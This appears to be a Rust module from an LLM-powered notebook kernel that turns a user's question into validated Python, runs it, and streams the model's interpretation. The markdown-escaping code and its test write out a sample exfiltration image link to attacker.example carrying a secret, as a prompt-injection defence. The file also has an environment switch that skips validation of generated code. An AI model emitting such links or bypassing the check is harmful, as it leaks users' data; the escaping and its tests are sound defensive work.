//! A question cell: prompt -> code -> validate -> run -> interpret, as the design document
//! describes, with at most these model calls: one for code, one more only after a
//! validation failure, one more only after an execution error, then one streamed
//! interpretation.

use super::engine::{fail_cell as fail, role_metadata, Engine, State};
use super::llm::{LlmClient, LlmError};
use super::prompt::{self, ContextItem};
use super::session;
use super::worker_client::CallError;
use crate::protocol::backend::{ErrorInfo, ExecuteOutcome, Output, OutputSink};
use history_store::{ExchangeRecord, HistoryStore, Usage};
use serde_json::{json, Value};
use std::time::{Duration, Instant};

/// How often the streamed interpretation is redrawn (frontends re-render on each update).
const STREAM_REDRAW: Duration = Duration::from_millis(60);
/// The design document's limit on a question's length.
const MAX_QUESTION_CHARS: usize = 1000;

/// Escape HTML so model text renders as text inside markdown.
pub fn escape_html(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn emit_code(sink: &OutputSink, code: &str, note: Option<&str>) {
    let fence = if code.contains("```") { "~~~~" } else { "```" };
    let note = note
        .map(|n| format!("{}\n\n", escape_html(n)))
        .unwrap_or_default();
    sink.send(Output::DisplayData {
        data: json!({
            "text/markdown": format!("{note}{fence}python\n{code}\n{fence}"),
            "text/plain": code,
        }),
        metadata: role_metadata("code"),
        display_id: None,
    });
}

/// Outcome of running generated code once.
enum Run {
    Ok(Value),
    /// The code raised; the model may repair it.
    CodeError(Value),
    /// Timeout, crash, interrupt: reported as is.
    Fatal(ErrorInfo),
}

async fn run_code(
    engine: &Engine,
    state: &mut State,
    code: &str,
    count: u32,
    sink: &OutputSink,
) -> Run {
    let timeout = engine.settings.max_execution_timeout;
    let worker = match engine.worker(state).await {
        Ok(w) => w,
        Err(e) => return Run::Fatal(e),
    };
    let deadline = tokio::time::Instant::now() + timeout;
    let args = json!({"code": code, "execution_count": count});
    match worker
        .call("run_question", args, Some(sink), Some(deadline))
        .await
    {
        Ok(v) if v["status"] == "ok" => Run::Ok(v),
        Ok(v) => Run::CodeError(v),
        Err(CallError::Timeout) => {
            let restored = engine.respawn(state).await;
            Run::Fatal(ErrorInfo::new(
                "TimeoutError",
                format!(
                    "Code execution timed out after {} seconds. The operation may be too complex. {restored}",
                    timeout.as_secs_f64()
                ),
            ))
        }
        Err(err) => Run::Fatal(engine.worker_failure(state, err).await),
    }
}

fn validate(code: &str) -> Result<(), code_guard::Rejection> {
    if std::env::var("LLM_ANALYTICS_UNSAFE_SKIP_VALIDATION").as_deref() == Ok("1") {
        tracing::error!(
            "LLM_ANALYTICS_UNSAFE_SKIP_VALIDATION=1: generated code runs WITHOUT the AST check"
        );
        return Ok(());
    }
    code_guard::validate(code, &code_guard::Policy::default())
}

/// Wait for `fut`, unless the user interrupts first.
async fn interruptible<T>(engine: &Engine, fut: impl std::future::Future<Output = T>) -> Option<T> {
    tokio::select! {
        r = fut => Some(r),
        _ = engine.interrupt.notified() => None,
    }
}

/// What a question cost: model time and tokens, execution time.
#[derive(Default)]
struct Costs {
    llm: Duration,
    exec: Duration,
    usage: Usage,
}

impl Costs {
    fn add_usage(&mut self, u: Option<super::llm::Usage>) {
        if let Some(u) = u {
            self.usage.prompt_tokens += u.prompt_tokens;
            self.usage.completion_tokens += u.completion_tokens;
        }
    }
}

async fn generate(
    engine: &Engine,
    llm: &LlmClient,
    system: &str,
    prompt: &str,
    costs: &mut Costs,
) -> Result<String, Option<LlmError>> {
    let t = Instant::now();
    let reply = interruptible(
        engine,
        llm.complete(system, prompt, engine.settings.code_temperature),
    )
    .await;
    costs.llm += t.elapsed();
    match reply {
        None => Err(None),
        Some(Err(e)) => Err(Some(e)),
        Some(Ok(reply)) => {
            costs.add_usage(reply.usage);
            Ok(code_guard::extract_code(&reply.text))
        }
    }
}

fn llm_failure(sink: &OutputSink, err: Option<LlmError>, what: &str) -> ExecuteOutcome {
    match err {
        None => fail(
            sink,
            "KeyboardInterrupt",
            "Interrupted while waiting for the model.",
        ),
        Some(e) => fail(sink, "LLMError", format!("Error {what}: {e}")),
    }
}

/// Ask for code and validate it, with the design document's one regeneration.
async fn valid_code(
    engine: &Engine,
    llm: &LlmClient,
    base: &str,
    sink: &OutputSink,
    costs: &mut Costs,
) -> Result<String, ExecuteOutcome> {
    let code = generate(engine, llm, prompt::CODE_SYSTEM, base, costs)
        .await
        .map_err(|e| llm_failure(sink, e, "generating code"))?;
    let Err(rejection) = validate(&code) else {
        return Ok(code);
    };
    tracing::info!("generated code rejected ({}); asking again", rejection.rule);
    let retry = prompt::retry_prompt(base, &rejection.message);
    let code = generate(engine, llm, prompt::RETRY_SYSTEM, &retry, costs)
        .await
        .map_err(|e| llm_failure(sink, e, "regenerating code"))?;
    match validate(&code) {
        Ok(()) => Ok(code),
        Err(r) => {
            emit_code(sink, &code, Some("This code was refused and did not run:"));
            Err(fail(
                sink,
                "ValidationError",
                format!(
                    "Generated code failed validation: {} [rule: {}]",
                    r.message, r.rule
                ),
            ))
        }
    }
}

fn error_text(v: &Value) -> String {
    let mut s = format!(
        "{}: {}",
        v["ename"].as_str().unwrap_or("Error"),
        v["evalue"].as_str().unwrap_or("")
    );
    if let (Some(n), Some(line)) = (v["lineno"].as_u64(), v["line"].as_str()) {
        s.push_str(&format!(" (line {n}: `{}`)", line.trim()));
    }
    s
}

/// The design document's fallback when the interpretation call fails.
fn fallback_interpretation(summary: &str) -> String {
    if let Some(rest) = summary.strip_prefix("DataFrame with ") {
        return format!("Analysis completed successfully. The result is a table with {rest}.");
    }
    if let Some(v) = summary.strip_prefix("Numeric value: ") {
        return format!("The calculated result is: {v}");
    }
    "Analysis completed successfully. The results are shown above.".into()
}

/// Markdown for model text: HTML escaped; `$` escaped so frontends that typeset TeX
/// (JupyterLab) show "$252.80" as money, not as the start of a formula; and brackets escaped
/// so an injected `![](https://attacker/?q=...)` cannot become an image the browser fetches
/// (or a link) — model text is shown as text.
pub fn model_markdown(text: &str) -> String {
    escape_html(text)
        .replace('$', "\\\\$")
        .replace('[', "\\[")
        .replace(']', "\\]")
}

fn show_interpretation(sink: &OutputSink, text: &str, display_id: &str, first: bool) {
    let data = json!({"text/markdown": model_markdown(text), "text/plain": text});
    let metadata = role_metadata("interpretation");
    sink.send(if first {
        Output::DisplayData {
            data,
            metadata,
            display_id: Some(display_id.to_string()),
        }
    } else {
        Output::UpdateDisplayData {
            data,
            metadata,
            display_id: display_id.to_string(),
        }
    });
}

/// Stream the interpretation into one display that is updated as tokens arrive.
async fn interpret(
    engine: &Engine,
    llm: &LlmClient,
    question: &str,
    code: &str,
    result: &Value,
    sink: &OutputSink,
    costs: &mut Costs,
) -> String {
    let description = result["for_interpretation"].as_str().unwrap_or("");
    let user = prompt::interpretation_prompt(question, code, description);
    let display_id = uuid::Uuid::new_v4().to_string();
    let mut shown = false;
    let mut last_draw = Instant::now() - STREAM_REDRAW;
    let t = Instant::now();
    let streamed = interruptible(
        engine,
        llm.stream(
            prompt::INTERPRET_SYSTEM,
            &user,
            engine.settings.interpretation_temperature,
            |so_far| {
                if !shown || last_draw.elapsed() >= STREAM_REDRAW {
                    show_interpretation(sink, so_far, &display_id, !shown);
                    shown = true;
                    last_draw = Instant::now();
                }
            },
        ),
    )
    .await;
    costs.llm += t.elapsed();
    let text = match streamed {
        Some(Ok(reply)) => {
            costs.add_usage(reply.usage);
            reply.text.trim().to_string()
        }
        Some(Err(e)) => {
            tracing::warn!("interpretation failed: {e}");
            fallback_interpretation(result["summary"].as_str().unwrap_or(""))
        }
        None => fallback_interpretation(result["summary"].as_str().unwrap_or("")),
    };
    show_interpretation(sink, &text, &display_id, !shown);
    text
}

fn missing_key_message(engine: &Engine) -> String {
    format!(
        "No OPENAI_API_KEY is set, so this question cannot be sent to {}. Set it before starting Jupyter \
         (export OPENAI_API_KEY=sk-...) or put the line OPENAI_API_KEY=sk-... in a .env file in the notebook's \
         folder, then restart the kernel. To use a local OpenAI-compatible server instead, set \
         OPENAI_BASE_URL (e.g. http://localhost:11434/v1). %load and %%python cells keep working without a key.",
        engine.settings.openai_base_url
    )
}

fn replay_enabled() -> bool {
    !matches!(
        std::env::var("LLM_ANALYTICS_REPLAY")
            .as_deref()
            .map(str::to_ascii_lowercase)
            .as_deref(),
        Ok("0" | "off" | "false" | "no")
    )
}

/// What every exchange record shares, whichever path produced it.
struct Key<'a> {
    question: &'a str,
    fingerprint: String,
    context_key: String,
    started: Instant,
}

/// Re-run a recorded answer's code on the data without calling the model.
async fn replay(
    engine: &Engine,
    state: &mut State,
    key: &Key<'_>,
    rec: ExchangeRecord,
    count: u32,
    sink: &OutputSink,
) -> ExecuteOutcome {
    if let Err(r) = validate(&rec.code) {
        return fail(sink, "ValidationError", format!("The recorded answer's code failed validation: {} [rule: {}]. Use %%fresh to ask the model.", r.message, r.rule));
    }
    let when = rec.timestamp.format("%Y-%m-%d");
    let note = format!("Replayed a recorded answer ({}, {when}): this code ran on your data without calling the model. Start the cell with %%fresh to ask the model again.", if rec.model.is_empty() { "recorded" } else { rec.model.as_str() });
    emit_code(sink, &rec.code, Some(&note));
    state.last_code = Some(rec.code.clone());
    let t = Instant::now();
    let run = run_code(engine, state, &rec.code, count, sink).await;
    let exec = t.elapsed();
    let costs = Costs {
        exec,
        ..Costs::default()
    };
    let (ename, message) = match run {
        Run::Ok(result) => {
            show_interpretation(
                sink,
                &rec.interpretation,
                &uuid::Uuid::new_v4().to_string(),
                true,
            );
            let mut replayed = record(key, &rec.code, &result, &rec.interpretation, None, &costs);
            replayed.model = rec.model;
            replayed.endpoint_host = rec.endpoint_host;
            replayed.replayed = true;
            save(engine, state, replayed).await;
            return ExecuteOutcome::ok();
        }
        Run::CodeError(err) => (
            err["ename"]
                .as_str()
                .unwrap_or("ExecutionError")
                .to_string(),
            err["friendly"]
                .as_str()
                .map(String::from)
                .unwrap_or_else(|| error_text(&err)),
        ),
        Run::Fatal(e) => (e.ename, e.evalue),
    };
    // What the user saw is history too, failures included (it feeds follow-up context).
    let mut failed = record(
        key,
        &rec.code,
        &Value::Null,
        "",
        Some(message.clone()),
        &costs,
    );
    failed.model = rec.model;
    failed.endpoint_host = rec.endpoint_host;
    failed.replayed = true;
    save(engine, state, failed).await;
    fail(
        sink,
        &ename,
        format!("{message}\nThe recorded answer did not run on this data; start the cell with %%fresh to ask the model."),
    )
}

pub async fn ask(
    engine: &Engine,
    state: &mut State,
    question: &str,
    fresh: bool,
    count: u32,
    sink: &OutputSink,
) -> ExecuteOutcome {
    let settings = &engine.settings;
    let started = Instant::now();
    if state.datasets.is_empty() {
        return fail(
            sink,
            "NoDataError",
            "No data is loaded yet. Load a CSV first, e.g. %load sales.csv",
        );
    }
    if question.chars().count() > MAX_QUESTION_CHARS {
        return fail(sink, "QuestionTooLong", format!("Questions are limited to {MAX_QUESTION_CHARS} characters; this one has {}. Shorten it or split it into follow-ups.", question.chars().count()));
    }
    let context: Vec<ContextItem> = state
        .exchanges
        .iter()
        .rev()
        .take(settings.context_lookback)
        .rev()
        .map(|e| ContextItem {
            question: e.question.clone(),
            code: e.code.clone(),
            result_summary: e.result_summary.clone(),
        })
        .collect();
    let key = Key {
        question,
        fingerprint: session::data_fingerprint(&state.datasets),
        context_key: session::context_key(&context),
        started,
    };
    let store = engine.store().await;
    engine.show_store_warnings(&store, sink);
    if !fresh && replay_enabled() {
        if let Ok(Some(rec)) = store
            .find_replay(question, &key.fingerprint, &key.context_key)
            .await
        {
            return replay(engine, state, &key, rec, count, sink).await;
        }
    }
    if settings.openai_api_key.is_none() && !settings.endpoint_is_local() {
        return fail(sink, "MissingApiKey", missing_key_message(engine));
    }
    let llm = match engine.llm() {
        Ok(c) => c,
        Err(e) => return fail(sink, "LLMError", e),
    };
    let datasets: Vec<(String, Value)> = state
        .datasets
        .iter()
        .map(|d| (d.name.clone(), d.profile.clone()))
        .collect();
    let base = prompt::code_prompt(&datasets, question, &context);
    let mut costs = Costs::default();

    let mut code = match valid_code(engine, &llm, &base, sink, &mut costs).await {
        Ok(c) => c,
        Err(outcome) => return outcome,
    };
    emit_code(sink, &code, None);
    state.last_code = Some(code.clone());
    let t = Instant::now();
    let mut run = run_code(engine, state, &code, count, sink).await;
    costs.exec += t.elapsed();
    if let Run::CodeError(err) = &run {
        // One self-repair round: the model sees the error type, message and failing line.
        let repair = prompt::repair_prompt(&base, &code, &error_text(err));
        let friendly = err["friendly"].as_str().unwrap_or("").to_string();
        match generate(engine, &llm, prompt::CODE_SYSTEM, &repair, &mut costs).await {
            Ok(fixed) if validate(&fixed).is_ok() => {
                emit_code(
                    sink,
                    &fixed,
                    Some(&format!(
                        "The first attempt failed ({}), so the model corrected it:",
                        error_text(err)
                    )),
                );
                code = fixed;
                state.last_code = Some(code.clone());
                let t = Instant::now();
                run = run_code(engine, state, &code, count, sink).await;
                costs.exec += t.elapsed();
            }
            Ok(_) | Err(Some(_)) => {
                tracing::info!("self-repair produced no usable code");
                run = Run::Fatal(ErrorInfo::new("ExecutionError", friendly));
            }
            Err(None) => {
                return fail(
                    sink,
                    "KeyboardInterrupt",
                    "Interrupted while waiting for the model.",
                )
            }
        }
    }
    let stamp = |rec: &mut ExchangeRecord| {
        rec.model = llm.model().to_string();
        rec.endpoint_host = llm.endpoint_host();
    };
    let result = match run {
        Run::Ok(v) => v,
        Run::CodeError(err) => {
            let msg = err["friendly"]
                .as_str()
                .map(String::from)
                .unwrap_or_else(|| error_text(&err));
            let mut rec = record(&key, &code, &Value::Null, "", Some(msg.clone()), &costs);
            stamp(&mut rec);
            save(engine, state, rec).await;
            return fail(sink, err["ename"].as_str().unwrap_or("ExecutionError"), format!("{msg}\nThe analysis encountered an error. Please try rephrasing your question."));
        }
        Run::Fatal(e) => {
            let mut rec = record(
                &key,
                &code,
                &Value::Null,
                "",
                Some(e.evalue.clone()),
                &costs,
            );
            stamp(&mut rec);
            save(engine, state, rec).await;
            return fail(sink, &e.ename.clone(), e.evalue);
        }
    };
    let interpretation = interpret(engine, &llm, question, &code, &result, sink, &mut costs).await;
    let mut rec = record(&key, &code, &result, &interpretation, None, &costs);
    stamp(&mut rec);
    save(engine, state, rec).await;
    ExecuteOutcome::ok()
}

fn record(
    key: &Key<'_>,
    code: &str,
    result: &Value,
    interpretation: &str,
    error: Option<String>,
    costs: &Costs,
) -> ExchangeRecord {
    ExchangeRecord {
        id: uuid::Uuid::new_v4().to_string(),
        timestamp: chrono::Utc::now(),
        question: key.question.to_string(),
        code: code.to_string(),
        result_summary: result["summary"]
            .as_str()
            .unwrap_or(if error.is_some() {
                "Error"
            } else {
                "No result"
            })
            .to_string(),
        interpretation: interpretation.to_string(),
        error,
        full_result: result.get("full_result").cloned().unwrap_or(Value::Null),
        model: String::new(),
        endpoint_host: String::new(),
        usage: costs.usage.clone(),
        llm_ms: costs.llm.as_millis() as u64,
        exec_ms: costs.exec.as_millis() as u64,
        total_ms: key.started.elapsed().as_millis() as u64,
        data_fingerprint: key.fingerprint.clone(),
        context_key: key.context_key.clone(),
        replayed: false,
    }
}

/// Keep the exchange for follow-ups and write it to the store (spooled locally if the
/// database is down, so nothing shown to the user is lost).
async fn save(engine: &Engine, state: &mut State, rec: ExchangeRecord) {
    let cap = engine.settings.max_conversation_history.max(1);
    if let Some(sid) = state.session_id.clone() {
        if let Err(e) = engine.store().await.append(&sid, &rec, cap).await {
            tracing::warn!("history: could not record the exchange: {e}");
        }
    }
    state.exchanges.push(rec);
    if state.exchanges.len() > cap {
        let excess = state.exchanges.len() - cap;
        state.exchanges.drain(..excess);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn html_in_model_text_is_escaped() {
        assert_eq!(
            escape_html("<script>x</script> & **bold**"),
            "&lt;script&gt;x&lt;/script&gt; &amp; **bold**"
        );
    }

    #[test]
    fn dollars_are_not_typeset_as_math() {
        assert_eq!(
            model_markdown("from $5 to $7 <b>"),
            r"from \\$5 to \\$7 &lt;b&gt;"
        );
    }

    #[test]
    fn markdown_images_and_links_from_the_model_stay_text() {
        let md = model_markdown("see ![x](https://attacker.example/?q=secret) and [y](z)");
        // Every `](` that would make a link or image is escaped.
        assert!(!md.replace(r"\]", "").contains("]("), "{md}");
        assert!(md.contains(r"!\[x\](https://attacker.example/?q=secret)"));
    }

    #[test]
    fn fallbacks_follow_the_design_document() {
        assert_eq!(
            fallback_interpretation("DataFrame with 3 rows and 2 columns"),
            "Analysis completed successfully. The result is a table with 3 rows and 2 columns."
        );
        assert_eq!(
            fallback_interpretation("Numeric value: 42"),
            "The calculated result is: 42"
        );
        assert_eq!(
            fallback_interpretation("Series with 3 values"),
            "Analysis completed successfully. The results are shown above."
        );
    }

    #[test]
    fn error_text_names_the_line() {
        let v = json!({"ename": "KeyError", "evalue": "'price'", "lineno": 2, "line": "  x = df['price']"});
        assert_eq!(
            error_text(&v),
            "KeyError: 'price' (line 2: `x = df['price']`)"
        );
    }
}
